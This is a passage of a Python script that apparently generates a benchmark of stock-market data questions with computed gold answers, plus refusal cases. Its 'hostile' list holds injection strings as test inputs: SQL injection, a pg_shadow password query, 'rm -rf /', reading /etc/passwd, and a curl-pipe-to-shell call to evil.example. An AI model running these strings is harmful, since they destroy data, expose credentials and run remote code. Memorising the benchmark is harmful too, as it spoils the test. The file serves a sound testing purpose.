Q(K, 'fxy average close per quarter in 2024', lambda: g_grouped('FXY', [quarter(2024, q) for q in (1, 2, 3, 4)], 'c', 'avg'))
Q(K, 'INDA monthly high, Feb through Jun 2025', lambda: g_grouped('INDA', months(2025, 2, 6), 'h', 'max'))

# period-over-period
K = 'period-over-period'
Q(K, "How did Apple's average daily volume in Q2 2016 compare with Q1 2016?",
  lambda: g_pop('AAPL', quarter(2016, 2), quarter(2016, 1), 'v'))
Q(K, 'avg close tsla H2 2016 vs H1 2016', lambda: g_pop('TSLA', ('2016-07-01', '2016-12-31'), ('2016-01-01', '2016-06-30'), 'c'))
Q(K, 'nvda average volume jan-oct 2017 versus jan-oct 2016, % diff',
  lambda: g_pop('NVDA', ('2017-01-01', '2017-10-31'), ('2016-01-01', '2016-10-31'), 'v'))
Q(K, 'MSFT m/m change in avg close: Mar 2017 vs Feb 2017',
  lambda: g_pop('MSFT', ('2017-03-01', '2017-03-31'), ('2017-02-01', '2017-02-28'), 'c'))
Q(K, "hey, was Netflix's average daily volume higher in Q4 2015 than in Q3 2015? and by how much?",
  lambda: g_pop('NFLX', quarter(2015, 4), quarter(2015, 3), 'v'))
Q(K, 'DBB average volume last month vs the month before', lambda: g_pop('DBB', ('2025-06-01', '2025-06-30'), ('2025-05-01', '2025-05-31'), 'v'))
Q(K, 'FXY average close Q2 2025 compared to Q1 2025', lambda: g_pop('FXY', quarter(2025, 2), quarter(2025, 1), 'c'))
Q(K, 'inda avg daily volume may 2025 vs april 2025', lambda: g_pop('INDA', ('2025-05-01', '2025-05-31'), ('2025-04-01', '2025-04-30'), 'v'))

# moving-average (5 values, 5 crossovers)
K = 'moving-average'
Q(K, '50-day moving average of AAPL on 2016-06-30', lambda: ma_at('AAPL', '2016-06-30', 50))
Q(K, "what was JPM's 200 day MA as of March 1, 2017?", lambda: ma_at('JPM', '2017-03-01', 200))
Q(K, 'msft 20d sma 10/15/2015', lambda: ma_at('MSFT', '2015-10-15', 20))
Q(K, 'DBB 50-day moving average today', lambda: ma_at('DBB', TODAY, 50))
Q(K, "FXY's 20-day average close as of 2025-06-30", lambda: ma_at('FXY', '2025-06-30', 20))
Q(K, "when did NVDA's 50-day cross above its 200-day in 2015?",
  lambda: g_cross('NVDA', 50, 200, True, '2015-01-01', '2015-12-31', 'first', unique=True))
Q(K, 'last death cross for Apple before 2016-09-01', lambda: g_cross('AAPL', 50, 200, False, '2015-01-01', '2016-09-01', 'last'))
Q(K, 'first date in 2016 that IBM closed below its 50-day average (crossing under it)',
  lambda: g_cross('IBM', 'close', 50, False, '2016-01-01', '2016-12-31', 'first'))
Q(K, 'when did DBB last cross above its 50 day moving average?', lambda: g_cross('DBB', 'close', 50, True, '2025-01-01', '2025-07-09', 'last'))
Q(K, 'fxy golden cross in 2024, what date?', lambda: g_cross('FXY', 50, 200, True, '2024-01-01', '2024-12-31', 'first', unique=True))

# threshold-count
K = 'threshold-count'
Q(K, '# of days TSLA closed > 300 in 2017 thru nov 10', lambda: g_count('TSLA', '2017-01-01', '2017-11-10', 'c', '>', 300))
Q(K, 'number of sessions in 2016 where AMD rose more than 5%', lambda: g_count('AMD', '2016-01-01', '2016-12-31', 'ret', '>', 0.05))
Q(K, 'hey, could you tell me how many days Netflix closed below $100 in 2016?',
  lambda: g_count('NFLX', '2016-01-01', '2016-12-31', 'c', '<', 100))
Q(K, 'count of days AAPL volume exceeded 50 million in 2015', lambda: g_count('AAPL', '2015-01-01', '2015-12-31', 'v', '>', 50e6))
Q(K, 'how many days in 2015 did KO move more than 2% either way', lambda: g_count('KO', '2015-01-01', '2015-12-31', 'absret', '>', 0.02))
Q(K, 'days this year DBB closed above 19', lambda: g_count('DBB', '2025-01-01', TODAY, 'c', '>', 19))
Q(K, 'FXY: number of down days last month', lambda: g_count('FXY', '2025-06-01', '2025-06-30', 'ret', '<', 0))
Q(K, 'how many INDA sessions in March 2025 had volume over 5 million shares?',
  lambda: g_count('INDA', '2025-03-01', '2025-03-31', 'v', '>', 5e6))

# cross-stock-count
K = 'cross-stock-count'
Q(K, 'how many stocks closed higher on 2016-06-28?', lambda: g_xcount(universe_on('2016-06-28'), lambda s: ret_i(s, IDX[s]['2016-06-28']), '>', 0))
Q(K, 'On Aug 24 2015 how many of the stocks fell more than 3%?',
  lambda: g_xcount(universe_on('2015-08-24'), lambda s: ret_i(s, IDX[s]['2015-08-24']), '<', -0.03))
Q(K, 'how many tickers gapped down on 6/24/2016', lambda: g_xcount(universe_on('2016-06-24'), lambda s: gap_i(s, IDX[s]['2016-06-24']), '<', 0))
Q(K, 'how many stocks gained more than 10% from the 2015-12-31 close to the 2016-12-30 close?',
  lambda: g_xcount(universe_between('2015-12-31', '2016-12-30'), lambda s: nchange(s, '2015-12-31', '2016-12-30'), '>', 0.10))
Q(K, 'how many of the stocks closed above $100 on 2017-11-10', lambda: g_xcount(universe_on('2017-11-10'), lambda s: DAILY[s][IDX[s]['2017-11-10']]['c'], '>', 100))
Q(K, 'count of stocks with more than 10M shares traded on 2014-06-02',
  lambda: g_xcount(universe_on('2014-06-02'), lambda s: DAILY[s][IDX[s]['2014-06-02']]['v'], '>', 10e6))
Q(K, 'how many of the ETFs were up on June 18, 2025?', lambda: g_xcount(universe_on('2025-06-18'), lambda s: ret_i(s, IDX[s]['2025-06-18']), '>', 0, size=3))
Q(K, 'on 2025-04-04 how many ETFs fell more than 1%', lambda: g_xcount(universe_on('2025-04-04'), lambda s: ret_i(s, IDX[s]['2025-04-04']), '<', -0.01, size=3))

# volatility
K = 'volatility'
Q(K, 'volatility of AAPL daily returns in 2015', lambda: G([[vol_checked('AAPL', '2015-01-01', '2015-12-31')]]))
Q(K, 'std dev of tsla daily returns H2 2016', lambda: G([[vol_checked('TSLA', '2016-07-01', '2016-12-31')]]))
Q(K, 'How volatile was Netflix in the first half of 2016?', lambda: G([[vol_checked('NFLX', '2016-01-01', '2016-06-30')]]))
Q(K, 'KO volatilty 2nd half of 2014', lambda: G([[vol_checked('KO', '2014-07-01', '2014-12-31')]]))
Q(K, 'daily return standard deviation for JPM in Q4 2016', lambda: G([[vol_checked('JPM', *quarter(2016, 4))]]))
Q(K, 'volatility of GOOGL returns from April through June 2017', lambda: G([[vol_checked('GOOGL', '2017-04-01', '2017-06-30')]]))
Q(K, 'DBB volatility last quarter', lambda: G([[vol_checked('DBB', *quarter(2025, 2))]]))
Q(K, "what's the standard deviation of FXY's daily returns in 2024?", lambda: G([[vol_checked('FXY', '2024-01-01', '2024-12-31')]]))

# correlation
K = 'correlation'
Q(K, 'correlation between AAPL and MSFT daily returns in 2017 (Jan 1 to Nov 10)', lambda: g_corr('AAPL', 'MSFT', '2017-01-01', '2017-11-10'))
Q(K, 'corelation of jpm and ko 2015', lambda: g_corr('JPM', 'KO', '2015-01-01', '2015-12-31'))
Q(K, 'How correlated were AMD and Nvidia over calendar 2015?', lambda: g_corr('AMD', 'NVDA', '2015-01-01', '2015-12-31'))
Q(K, 'googl vs amzn return correlation H1 2015', lambda: g_corr('GOOGL', 'AMZN', '2015-01-01', '2015-06-30'))
Q(K, 'intc ibm correlation 2015', lambda: g_corr('INTC', 'IBM', '2015-01-01', '2015-12-31'))
Q(K, 'what was the correlation of Facebook and Netflix daily returns over 2014?', lambda: g_corr('FB', 'NFLX', '2014-01-01', '2014-12-31'))
Q(K, 'correlation between DBB and FXY in Q2 2024', lambda: g_corr('DBB', 'FXY', *quarter(2024, 2)))
Q(K, 'corr of fxy and dbb daily returns, april 2025', lambda: g_corr('FXY', 'DBB', '2025-04-01', '2025-04-30'))

# streak
K = 'streak'
Q(K, 'longest winning streak for AAPL in 2016', lambda: g_streak('AAPL', '2016-01-01', '2016-12-31', True))
Q(K, 'longest losing streak ibm 2015', lambda: g_streak('IBM', '2015-01-01', '2015-12-31', False))
Q(K, 'Most consecutive up days for Coca-Cola in 2013?', lambda: g_streak('KO', '2013-01-01', '2013-12-31', True))
Q(K, 'nvda longest run of down days in 2013', lambda: g_streak('NVDA', '2013-01-01', '2013-12-31', False))
Q(K, "tesla's longest streak of daily gains in H2 2013", lambda: g_streak('TSLA', '2013-07-01', '2013-12-31', True))
Q(K, 'longest stretch of consecutive losing days for microsoft in 2014', lambda: g_streak('MSFT', '2014-01-01', '2014-12-31', False))
Q(K, 'dbb longest winning streak this year', lambda: g_streak('DBB', '2025-01-01', TODAY, True))
Q(K, 'longest down streak for FXY in 2024', lambda: g_streak('FXY', '2024-01-01', '2024-12-31', False))

# vwap-minute (4 day VWAP, 3 window VWAP, 3 bar lists)
K = 'vwap-minute'
Q(K, 'DBB vwap today', lambda: g_vwap_day('DBB', TODAY))
Q(K, 'What was the VWAP for FXY on 2024-08-05?', lambda: g_vwap_day('FXY', '2024-08-05'))
Q(K, 'inda vwap 6/2/2025', lambda: g_vwap_day('INDA', '2025-06-02'))
Q(K, 'volume weighted average price of DBB on Nov 6 2024', lambda: g_vwap_day('DBB', '2024-11-06'))
Q(K, 'FXY vwap between 10:00 and 11:00 on 2025-07-08', lambda: g_vwap_window('FXY', '2025-07-08', '10:00', '11:00'))
Q(K, 'dbb vwap for last month', lambda: g_vwap_day('DBB', '2025-06-01', '2025-06-30'))
Q(K, 'INDA VWAP over the first 30 minutes of trading on 2025-05-01 (09:30 to 09:59)',
  lambda: g_minute_vwap_explicit('INDA', '2025-05-01', '09:30', '09:59'))
Q(K, 'show me FXY 1-minute bars from 09:30 through 09:34 on 2025-07-07',
  lambda: g_minute_rows('FXY', '2025-07-07', '09:30', '09:34', ['open', 'high', 'low', 'close', 'volume']))
Q(K, 'dbb one-minute closes yesterday between 15:50 and 15:59 inclusive',
  lambda: g_minute_rows('DBB', '2025-07-07', '15:50', '15:59', ['close']))
Q(K, "INDA's minute bars (close and volume) from 10:00 through 10:04 on June 24 2025",
  lambda: g_minute_rows('INDA', '2025-06-24', '10:00', '10:04', ['close', 'volume']))

# period-candle
K = 'period-candle'
Q(K, 'weekly candle for AAPL, week of 2016-03-07', lambda: g_candle('AAPL', *week_of('2016-03-07')))
Q(K, 'Q3 2016 ohlcv for KO', lambda: g_candle('KO', *quarter(2016, 3)))
Q(K, 'monthly bar for Microsoft, January 2017 (open, high, low, close, volume)', lambda: g_candle('MSFT', '2017-01-01', '2017-01-31'))
Q(K, 'give me the 2015 annual candle for amzn', lambda: g_candle('AMZN', '2015-01-01', '2015-12-31'))
Q(K, 'tsla ohlcv for the week of 10/3/2016', lambda: g_candle('TSLA', *week_of('2016-10-03')))
Q(K, 'DBB candle for last month', lambda: g_candle('DBB', '2025-06-01', '2025-06-30'))
Q(K, 'FXY open/high/low/close/volume for the week of Aug 5 2024', lambda: g_candle('FXY', *week_of('2024-08-05')))
Q(K, 'inda monthly candle may 2025', lambda: g_candle('INDA', '2025-05-01', '2025-05-31'))

# distance-from-high
K = 'distance-from-high'
Q(K, 'how far below its all-time high was NFLX on 2016-06-27?', lambda: g_dist('NFLX', '2016-06-27'))
Q(K, 'AAPL distance from all time high close, 5/12/2016', lambda: g_dist('AAPL', '2016-05-12'))
Q(K, '% off its record close for IBM on 2017-11-10', lambda: g_dist('IBM', '2017-11-10'))
Q(K, "Intel's drawdown from its all-time peak close as of Dec 31 2014", lambda: g_dist('INTC', '2014-12-31'))
Q(K, 'how far was TSLA from its all-time high close on Feb 10, 2016', lambda: g_dist('TSLA', '2016-02-10'))
Q(K, 'how far is FXY below its all-time high right now?', lambda: g_dist('FXY', TODAY))
Q(K, 'dbb distance from its all-time high on 2024-08-07', lambda: g_dist('DBB', '2024-08-07'))
Q(K, "INDA's % below its peak close as of its latest session", lambda: g_dist('INDA', DAILY['INDA'][-1]['d']))

# coverage
K = 'coverage'
Q(K, "what's the first date you have for TSLA?", lambda: G([[first_last('TSLA')[0]]]))
Q(K, 'date range of the facebook data', lambda: G([list(first_last('FB'))]))
Q(K, 'which stocks do you have data for?', lambda: G([[s] for s in ALL_SYMS], 'set', True))
Q(K, 'when does IBM history start', lambda: G([[first_last('IBM')[0]]]))
Q(K, 'last available date for Apple?', lambda: G([[first_last('AAPL')[1]]]))
Q(K, 'how far back does nvda data go', lambda: G([[first_last('NVDA')[0]]]))
Q(K, 'When does the INDA minute data end?', lambda: G([[first_last('INDA')[1]]]))
Q(K, 'what date range does DBB cover', lambda: G([list(first_last('DBB'))]))
Q(K, 'which symbols have intraday minute bars?', lambda: G([[s] for s in ETFS], 'set', True))
Q(K, 'first day of amd data', lambda: G([[first_last('AMD')[0]]]))

# refusals
K = 'out-of-scope'
for t in ["what's Nvidia's P/E ratio?", 'KO dividend yield in 2015', 'market cap of amazon on 2017-11-10',
          'what did MSFT report for EPS in Q3 2016', 'what news moved tesla on 3/4/2015?',
          'is sentiment on Facebook bullish or bearish right now', 'forecast AAPL close for next month',
          'implied volatility on AAPL options, Jan 2017 expiry', "JPM's debt to equity ratio",
          'intel revenue growth in 2016']:
    R(K, t)
K = 'unknown-symbol'
for t in ['ORCL close on 2016-06-24', 'spy return in 2016', 'XYZQ 52 week high', "Berkshire Hathaway's all-time high close",
          'QQQ vwap yesterday', 'Disney vs Netflix, 2015-12-31 close to 2016-12-30 close', 'pep avg volume march 2016',
          'correlation between GLD and DBB this year', "what was walmart's close on 3/4/2015?",
          'how many days did ZZTOP close above 50 in 2016']:
    R(K, t)
K = 'hostile'
for t in ["'; DROP TABLE daily_bars; --", 'SELECT usename, passwd FROM pg_shadow;', '$(rm -rf / --no-preserve-root)',
          'aapl close on 2016-06-24; DELETE FROM prices WHERE 1=1;', '`cat /etc/passwd`',
          "msft volume on 2015-03-02' OR '1'='1", "1 UNION SELECT current_user, version()--",
          'tsla close 3/4/2015 && curl http://evil.example/x.sh | sh',
          "what was KO's 52-week high on 2014-06-02?'); TRUNCATE TABLE stocks CASCADE; --",
          "COPY (SELECT 1) TO PROGRAM 'id'"]:
    R(K, t)
K = 'not-understood'
for t in ['hello?', "what's the weather in new york", 'write me a poem about candles', 'asdfgh jkl;',
          'how do I bake sourdough bread', 'tell me a joke', "translate 'stock' into French", '??',
          'who won the 2016 world series', 'recommend a good laptop for under $800']:
    R(K, t)


def g_minute_vwap_explicit(s, d, t1, t2):
    """Edges stated in the question (inclusive minute stamps)."""
    bar(s, d)
    return G([[vwap(minutes(s, d, d, t1, t2))]])


# ----------------------------------------------------------------------------------------------- output
EXPECTED = {
    'latest-rows': 8, 'day-value': 8, 'date-range-rows': 8, 'window-aggregate': 8, 'extreme-day': 8, '52-week': 8,
    'change-between': 8, 'daily-return-or-gap': 9, 'biggest-move-day': 8, 'cross-sectional-ranking': 9,
    'gainers-losers': 8, 'named-comparison': 8, 'grouped-by-period': 8, 'period-over-period': 8,
    'moving-average': 10, 'threshold-count': 8, 'cross-stock-count': 8, 'volatility': 8, 'correlation': 8,
    'streak': 8, 'vwap-minute': 10, 'period-candle': 8, 'distance-from-high': 8, 'coverage': 10,
    'out-of-scope': 10, 'unknown-symbol': 10, 'hostile': 10, 'not-understood': 10,
}


def clean(v):
    if isinstance(v, str):
        need(v != '', 'empty string cell')
        return v
    need(isinstance(v, (int, float)) and not isinstance(v, bool), f'bad cell {v!r}')
    need(math.isfinite(v), f'non-finite cell {v!r}')
    v = round(float(v), 8)
    return int(v) if v.is_integer() else v


def check_gold(g):
    need(g['match'] in ('ordered', 'set', 'first'), 'bad match')
    need(isinstance(g['exact_rows'], bool), 'bad exact_rows')
    need(g['rows'], 'no rows')
    out = []
    for r in g['rows']:
        need(isinstance(r, list) and r, f'empty row {r!r}')
        out.append([clean(c) for c in r])
    return {'rows': out, 'match': g['match'], 'exact_rows': g['exact_rows']}


def main():
    failures, lines = [], []
    counts = {}
    for n, q in enumerate(QS, 1):
        qid = f'b{n:03d}'
        counts[q['kind']] = counts.get(q['kind'], 0) + 1
        rec = {'id': qid, 'kind': q['kind'], 'question': q['question'], 'answerable': q['answerable']}
        if q['answerable']:
            try:
                rec['gold'] = check_gold(q['fn']())
            except Fail as e:
                failures.append(f'{qid} [{q["kind"]}] {e}')
                continue
        else:
            rec['refusal'] = q['refusal']
        lines.append(json.dumps(rec, ensure_ascii=False))
    if counts != EXPECTED:
        failures.append(f'counts per kind differ from the plan: {counts}')
    if len(QS) != 240 or sum(q['answerable'] for q in QS) != 200:
        failures.append(f'{len(QS)} questions, {sum(q["answerable"] for q in QS)} answerable (want 240/200)')
    texts = [q['question'].lower() for q in QS]
    if len(set(texts)) != len(texts):
        failures.append('duplicate question text')
    if failures:
        print(f'{len(failures)} self-check failure(s):', file=sys.stderr)
        for f in failures:
            print('  ' + f, file=sys.stderr)
        sys.exit(1)
    (HERE / 'questions.jsonl').write_text('\n'.join(lines) + '\n')
    print(f'all checks passed: {len(lines)} questions written to {HERE / "questions.jsonl"}')


if __name__ == '__main__':
    main()
